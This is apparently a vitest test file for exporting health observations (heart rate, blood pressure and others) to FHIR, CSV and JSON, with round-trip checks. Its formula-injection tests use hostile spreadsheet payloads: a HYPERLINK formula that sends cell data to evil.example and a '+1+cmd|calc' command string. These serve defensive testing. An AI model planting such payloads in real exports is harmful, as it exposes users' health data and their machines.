import { describe, expect, it } from 'vitest';
import { listCategories } from '../../../../policies/observations/catalogue.js';
import { CSV_COLUMNS, parseCsvObservations } from '../../../../services/vault/formats/csv-observations.js';
import { parseFhirObservations } from '../../../../services/vault/formats/fhir-observations.js';
import { parseJsonObservations } from '../../../../services/vault/formats/json-observations.js';
import {
  formatCsvHeader,
  formatCsvRow,
  toCsv,
  toFhirBundle,
  toFhirObservation,
} from '../../../../services/vault/formats/observation-export.js';
import { validateObservation, validateUploadRows } from '../../../../policies/observations/observation-rules.js';
import type { NormalisedObservation, ParsedUpload } from '../../../../policies/observations/observation-types.js';

const NOW = new Date('2024-06-01T12:00:00.000Z');
const MEMBER = 'Patient/6f1c2a9e';

function at(day: number): string {
  return new Date(Date.UTC(2024, 4, day, 6, 30, 15, 250)).toISOString();
}

/** One observation of every category, with the awkward cases: converted values, notes with CSV syntax. */
const SAMPLES: readonly NormalisedObservation[] = [
  { category: 'heart-rate', value: 72, unit: '/min', effectiveAt: at(1), source: 'device' },
  {
    category: 'blood-pressure',
    components: { systolic: 121, diastolic: 79 },
    unit: 'mm[Hg]',
    effectiveAt: at(2),
    source: 'manual',
    note: 'left arm, "seated"\nafter 5 min rest',
  },
  { category: 'body-weight', value: 68.0388555, unit: 'kg', effectiveAt: at(3), source: 'manual' },
  { category: 'body-height', value: 169.926, unit: 'cm', effectiveAt: at(4), source: 'fhir' },
  { category: 'bmi', value: 23.6, unit: 'kg/m2', effectiveAt: at(5), source: 'manual' },
  { category: 'body-temperature', value: 37.7777777778, unit: 'Cel', effectiveAt: at(6), source: 'manual' },
  { category: 'oxygen-saturation', value: 97, unit: '%', effectiveAt: at(7), source: 'device' },
  { category: 'respiratory-rate', value: 14, unit: '/min', effectiveAt: at(8), source: 'device' },
  { category: 'steps', value: 8500, unit: '/d', effectiveAt: at(9), source: 'csv', note: '=1+1' },
  { category: 'sleep-duration', value: 7.25, unit: 'h', effectiveAt: at(10), source: 'device' },
  { category: 'blood-glucose', value: 5.27320766447, unit: 'mmol/L', effectiveAt: at(11), source: 'manual' },
];

function observationsOf(parsed: ParsedUpload): readonly NormalisedObservation[] {
  const result = validateUploadRows(parsed, NOW);
  expect(result.problems).toEqual([]);
  return result.observations.map((o) => o.observation);
}

/** FHIR forbids empty elements: no null, no empty string, array or object anywhere. */
function emptyElements(value: unknown, path = ''): string[] {
  if (value === null || value === '') return [path];
  if (Array.isArray(value)) {
    return value.length === 0 ? [path] : value.flatMap((v, i) => emptyElements(v, `${path}[${i}]`));
  }
  if (typeof value === 'object') {
    const entries = Object.entries(value as object);
    return entries.length === 0 ? [path] : entries.flatMap(([k, v]) => emptyElements(v, `${path}.${k}`));
  }
  return [];
}

// The dateTime pattern of the FHIR R4 specification (datatypes), in pieces.
const FHIR_DATE_TIME = new RegExp(
  [
    '^([0-9]([0-9]([0-9][1-9]|[1-9]0)|[1-9]00)|[1-9]000)',
    '(-(0[1-9]|1[0-2])(-(0[1-9]|[1-2][0-9]|3[0-1])',
    '(T([01][0-9]|2[0-3]):[0-5][0-9]:([0-5][0-9]|60)(\\.[0-9]+)?',
    '(Z|(\\+|-)((0[0-9]|1[0-3]):[0-5][0-9]|14:00)))?)?)?$',
  ].join(''),
);

describe('toFhirObservation', () => {
  it('writes a heart rate as a vital sign with LOINC code and UCUM quantity', () => {
    expect(toFhirObservation({ ...(SAMPLES[0] as NormalisedObservation), id: 'obs-1' }, MEMBER)).toEqual({
      resourceType: 'Observation',
      id: 'obs-1',
      status: 'final',
      category: [
        {
          coding: [
            {
              system: 'http://terminology.hl7.org/CodeSystem/observation-category',
              code: 'vital-signs',
              display: 'Vital Signs',
            },
          ],
        },
      ],
      code: {
        coding: [{ system: 'http://loinc.org', code: '8867-4', display: 'Heart rate' }],
        text: 'Heart rate',
      },
      subject: { reference: MEMBER },
      effectiveDateTime: '2024-05-01T06:30:15.250Z',
      valueQuantity: { value: 72, unit: '/min', system: 'http://unitsofmeasure.org', code: '/min' },
    });
  });

  it('writes blood pressure as the 85354-9 panel with systolic and diastolic components', () => {
    const resource = toFhirObservation(SAMPLES[1] as NormalisedObservation, MEMBER);
    expect(resource.code.coding[0]?.code).toBe('85354-9');
    expect(resource.valueQuantity).toBeUndefined();
    expect(resource.component).toEqual([
      {
        code: {
          coding: [{ system: 'http://loinc.org', code: '8480-6', display: 'Systolic blood pressure' }],
        },
        valueQuantity: { value: 121, unit: 'mm[Hg]', system: 'http://unitsofmeasure.org', code: 'mm[Hg]' },
      },
      {
        code: {
          coding: [{ system: 'http://loinc.org', code: '8462-4', display: 'Diastolic blood pressure' }],
        },
        valueQuantity: { value: 79, unit: 'mm[Hg]', system: 'http://unitsofmeasure.org', code: 'mm[Hg]' },
      },
    ]);
    expect(resource.note).toEqual([{ text: 'left arm, "seated"\nafter 5 min rest' }]);
  });

  it.each([
    ['heart-rate', 'vital-signs'],
    ['steps', 'activity'],
    ['sleep-duration', 'activity'],
    ['blood-glucose', 'laboratory'],
  ])('files %s under the FHIR category %s', (code, fhirCategory) => {
    const sample = SAMPLES.find((s) => s.category === code) as NormalisedObservation;
    expect(toFhirObservation(sample, MEMBER).category[0]?.coding[0]?.code).toBe(fhirCategory);
  });

  it('leaves out an id that is not a FHIR id', () => {
    const resource = toFhirObservation({ ...(SAMPLES[0] as NormalisedObservation), id: 'a/b' }, MEMBER);
    expect('id' in resource).toBe(false);
  });

  it('refuses a category the catalogue does not have', () => {
    const stale = { ...(SAMPLES[0] as NormalisedObservation), category: 'mood' };
    expect(() => toFhirObservation(stale, MEMBER)).toThrow(/mood/);
  });

  it.each(SAMPLES.map((s) => [s.category, s] as const))(
    'writes %s with no empty element, a FHIR dateTime and a UCUM code on every quantity',
    (_code, sample) => {
      const resource = toFhirObservation(sample, MEMBER);
      expect(emptyElements(resource)).toEqual([]);
      expect(resource.effectiveDateTime).toMatch(FHIR_DATE_TIME);
      const quantities = resource.valueQuantity
        ? [resource.valueQuantity]
        : resource.component?.map((c) => c.valueQuantity);
      expect(quantities?.length).toBeGreaterThan(0);
      for (const q of quantities ?? []) expect(q).toMatchObject({ system: 'http://unitsofmeasure.org', code: q.unit });
    },
  );
});

describe('toFhirBundle', () => {
  it('is a collection Bundle stamped with the export time', () => {
    const bundle = toFhirBundle(SAMPLES, MEMBER, NOW);
    expect(bundle).toMatchObject({
      resourceType: 'Bundle',
      type: 'collection',
      timestamp: NOW.toISOString(),
    });
    expect(bundle.entry).toHaveLength(SAMPLES.length);
  });

  it('gives uuid ids a urn:uuid fullUrl and other ids none', () => {
    const uuid = '0F8A3B52-7B75-4F5B-9D3E-1D7C2A0E9C11';
    const bundle = toFhirBundle(
      [
        { ...(SAMPLES[0] as NormalisedObservation), id: uuid },
        { ...(SAMPLES[2] as NormalisedObservation), id: '65f1c0ffee' },
      ],
      MEMBER,
    );
    expect(bundle.entry[0]?.fullUrl).toBe(`urn:uuid:${uuid.toLowerCase()}`);
    expect(bundle.entry[1]?.fullUrl).toBeUndefined();
    expect(bundle.entry[1]?.resource.id).toBe('65f1c0ffee');
  });

  it('is an empty collection when there is nothing to export', () => {
    expect(toFhirBundle([], MEMBER)).toEqual({ resourceType: 'Bundle', type: 'collection', entry: [] });
  });
});

describe('CSV export', () => {
  it('writes the header of the parser', () => {
    expect(formatCsvHeader()).toBe(CSV_COLUMNS.join(','));
  });

  it('writes blood pressure in the component columns and quotes a note that needs it', () => {
    expect(formatCsvRow(SAMPLES[1] as NormalisedObservation)).toBe(
      'blood-pressure,,mm[Hg],2024-05-02T06:30:15.250Z,121,79,"left arm, ""seated""\nafter 5 min rest",manual',
    );
  });

  it('ends every line with CRLF', () => {
    expect(toCsv(SAMPLES.slice(0, 1))).toBe(
      `${CSV_COLUMNS.join(',')}\r\nheart-rate,72,/min,2024-05-01T06:30:15.250Z,,,,device\r\n`,
    );
  });
});

describe('CSV export opened in a spreadsheet (formula injection)', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const noted = (note: string): NormalisedObservation => ({ ...(SAMPLES[0] as NormalisedObservation), note });
  // The raw note cell as written: the row minus the cells before and after it.
  const noteCell = (note: string) =>
    formatCsvRow(noted(note)).slice(`heart-rate,72,/min,${at(1)},,,`.length, -',device'.length);

  it.each([
    ['a formula', HYPERLINK, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['a plus', '+1+cmd|calc', "'+1+cmd|calc"],
    ['a minus', '-2+3', "'-2+3"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1+1', "'\t=1+1"],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a quote already', "'=1+1", "''=1+1"],
  ])('puts a quote in front of a note starting with %s', (_label, note, cell) => {
    expect(noteCell(note)).toBe(cell);
  });

  it('leaves other text and numbers, negative ones included, as they are', () => {
    expect(noteCell('after a run = tired')).toBe('after a run = tired');
    expect(noteCell("it's fine")).toBe("it's fine");
    const negative = { ...(SAMPLES[0] as NormalisedObservation), value: -3.5 } as NormalisedObservation;
    expect(formatCsvRow(negative).split(',')[1]).toBe('-3.5');
  });

  it('never writes a text cell a spreadsheet would evaluate', () => {
    // Stored notes are trimmed, so none starts with a tab or a CR; the cells above cover those.
    const notes = [HYPERLINK, '+1', '-1+1', '@x', "'=1", "''+1", '==', '=', '-', "'"];
    for (const note of notes) {
      const parsed = parseCsvObservations(toCsv([noted(note)]));
      // Read the raw cells back as a spreadsheet would see them: nothing starts a formula.
      const line = toCsv([noted(note)]).split('\r\n')[1]!;
      expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
      expect(observationsOf(parsed)).toEqual([noted(note)]);
    }
  });

  it('reads a guard a person typed in front of a formula as the guard, and a lone quote as text', () => {
    const header = CSV_COLUMNS.join(',');
    const parsed = parseCsvObservations(
      `${header}\r\nsteps,10,/d,${at(1)},,,'=1+1,csv\r\nsteps,10,/d,${at(2)},,,'ok,csv\r\n`,
    );
    expect(observationsOf(parsed).map((o) => o.note)).toEqual(['=1+1', "'ok"]);
  });
});

describe('round trip: export, then upload again', () => {
  it('gives back the same observations through FHIR (as source fhir)', () => {
    const body = JSON.stringify(toFhirBundle(SAMPLES, MEMBER, NOW));
    expect(observationsOf(parseFhirObservations(body))).toEqual(SAMPLES.map((s) => ({ ...s, source: 'fhir' })));
  });

  it('gives back the same observations through CSV, source included', () => {
    expect(observationsOf(parseCsvObservations(toCsv(SAMPLES)))).toEqual(SAMPLES);
  });

  it('gives back the same observations through JSON', () => {
    expect(observationsOf(parseJsonObservations(JSON.stringify({ observations: SAMPLES })))).toEqual(SAMPLES);
  });

  it('is stable: a value converted on the way in exports and re-imports unchanged', () => {
    const first = validateObservation(
      { category: 'body-weight', value: 150, unit: '[lb_av]', effectiveAt: at(1), source: 'manual' },
      NOW,
    );
    if (!first.ok) throw new Error('expected a valid observation');
    const again = observationsOf(parseCsvObservations(toCsv([first.observation])));
    expect(again).toEqual([first.observation]);
  });

  it('covers every category of the catalogue', () => {
    expect(new Set(SAMPLES.map((s) => s.category))).toEqual(new Set(listCategories().map((c) => c.code)));
  });
});
